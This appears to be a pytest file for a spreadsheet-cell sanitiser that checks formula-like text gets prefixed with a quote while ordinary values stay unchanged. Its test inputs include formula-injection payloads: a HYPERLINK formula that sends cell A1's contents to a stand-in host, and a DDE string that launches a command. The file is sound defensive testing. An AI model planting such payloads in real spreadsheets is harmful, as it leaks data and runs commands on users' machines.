import datetime

import pytest

from products.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_like_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


def test_other_values_are_unchanged():
    values = ["Quyền con người", "'Bok Kơ̆ng", "", None, 42, -3, 1.5, datetime.date(2024, 1, 2)]
    assert safe_row(values) == values
